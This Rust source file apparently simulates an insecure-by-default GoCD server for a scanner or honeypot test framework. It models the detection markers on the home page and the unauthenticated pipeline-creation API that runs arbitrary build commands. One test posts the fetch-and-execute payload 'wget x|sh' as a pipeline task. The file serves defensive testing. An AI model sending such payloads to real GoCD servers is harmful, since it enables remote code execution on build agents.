//! GoCD model.
//!
//! * "A newly installed GoCD server does not require users to
//!   authenticate" — insecure by default, with a documentation warning.
//! * Detection: `GET /go/home` must contain one of several
//!   version-dependent marker pairs ('Create a pipeline - Go' +
//!   'pipelines-page', 'Add Pipeline' + 'admin_pipelines', ...).
//! * Abuse surface: pipeline creation — build tasks execute arbitrary
//!   commands on agents.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Gocd {
    pub(crate) base: BaseApp,
    pipelines: Vec<String>,
}

impl Gocd {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Gocd {
            base: BaseApp::new(AppId::Gocd, version, config),
            pipelines: Vec::new(),
        }
    }

    /// Older GoCD UIs used different home-page markers; the plugin checks
    /// all variants. We serve a variant chosen by major version.
    fn home_page(&self) -> Response {
        let body = if self.base.version.major >= 20 {
            // Newer: dashboard variant.
            "<div class=\"pipelines-page\"><h1>Create a pipeline - Go</h1>\
             <a href=\"/go/admin/pipelines\">admin</a></div>"
                .to_string()
        } else if self.base.version.major >= 18 {
            "<div id=\"admin_pipelines\"><h1>Add Pipeline</h1></div>".to_string()
        } else {
            "<div><h1>Pipelines - Go</h1><a href=\"/go/admin/pipelines\">conf</a></div>".to_string()
        };
        Response::html(html::page_with_head(
            "GoCD",
            &html::css("/static/style.css"),
            &format!("{body}<!-- cruise gocd -->"),
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = !self.base.config.auth_enabled;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/go/home").into(),
            (nokeys_http::Method::Get, "/go/home") => {
                if open {
                    self.home_page().into()
                } else {
                    Response::redirect("/go/auth/login").into()
                }
            }
            (nokeys_http::Method::Get, "/go/auth/login") => {
                Response::html(html::login_form("GoCD", "/go/auth/security_check")).into()
            }
            (nokeys_http::Method::Post, "/go/api/admin/pipelines") => {
                if open {
                    let payload = req.body_text();
                    self.pipelines.push(payload.clone());
                    HandleOutcome::with_event(
                        Response::json("{\"name\":\"pipeline\"}"),
                        AppEvent::CommandExecuted {
                            command: format!("gocd-task:{payload}"),
                        },
                    )
                } else {
                    Response::unauthorized("GoCD").into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.pipelines.clear();
    }
}

impl_webapp!(Gocd, Gocd::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Gocd {
        let v = *release_history(AppId::Gocd).last().unwrap();
        Gocd::new(v, AppConfig::default_for(AppId::Gocd, &v))
    }

    #[test]
    fn insecure_by_default() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/go/home");
        let body = out.response.body_text();
        assert!(
            body.contains("Create a pipeline - Go") && body.contains("pipelines-page"),
            "{body}"
        );
    }

    #[test]
    fn old_versions_serve_old_markers() {
        let h = release_history(AppId::Gocd);
        let old = h[0];
        let mut app = Gocd::new(old, AppConfig::default_for(AppId::Gocd, &old));
        let body = DRIVER.get(&mut app, "/go/home").response.body_text();
        assert!(
            body.contains("Pipelines - Go") || body.contains("Add Pipeline"),
            "{body}"
        );
    }

    #[test]
    fn secured_instance_redirects_home() {
        let v = *release_history(AppId::Gocd).last().unwrap();
        let mut app = Gocd::new(v, AppConfig::secure_for(AppId::Gocd, &v));
        let out = DRIVER.get(&mut app, "/go/home");
        assert_eq!(out.response.location(), Some("/go/auth/login"));
        let out = DRIVER.post(&mut app, "/go/api/admin/pipelines", "{}");
        assert_eq!(out.response.status.as_u16(), 401);
        assert!(out.events.is_empty());
    }

    #[test]
    fn pipeline_creation_executes_commands() {
        let mut app = default_latest();
        let out = DRIVER.post(
            &mut app,
            "/go/api/admin/pipelines",
            "{\"tasks\":[\"wget x|sh\"]}",
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("wget x|sh")
        ));
    }

    #[test]
    fn root_redirects_to_home() {
        let mut app = default_latest();
        assert_eq!(
            DRIVER.get(&mut app, "/").response.location(),
            Some("/go/home")
        );
    }
}
